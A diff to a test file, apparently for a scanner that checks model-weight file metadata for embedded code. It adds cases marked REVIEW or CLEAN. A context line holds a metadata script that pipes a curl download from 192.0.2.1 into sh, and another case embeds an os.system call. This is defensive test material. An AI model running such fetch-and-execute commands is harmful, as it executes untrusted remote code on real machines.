@@ -53,6 +53,18 @@ CASES = {
         {"__metadata__": {"chat_template": MALICIOUS["subscript"]}, "w": WEIGHT, "b": BIAS}, Verdict.MALICIOUS
     ),
     "benign_template": case({"__metadata__": {"chat_template": LLAMA_3}, "w": WEIGHT, "b": BIAS}, Verdict.CLEAN),
+    "code_in_metadata": case(
+        {"__metadata__": {"init": "import os; os.system('echo modelsweep-test')"}, "w": WEIGHT, "b": BIAS},
+        Verdict.REVIEW,
+    ),
+    "benign_settings_in_metadata": case(
+        {
+            "__metadata__": {"config": '{"mode": "eval", "import": "os"}', "ss_tag": "rm, nc (bash)"},
+            "w": WEIGHT,
+            "b": BIAS,
+        },
+        Verdict.CLEAN,
+    ),
     "script_in_metadata": case(
         {"__metadata__": {"note": "#!/bin/bash\ncurl http://192.0.2.1/run.sh | sh\n"}, "w": WEIGHT, "b": BIAS},
         Verdict.MALICIOUS,
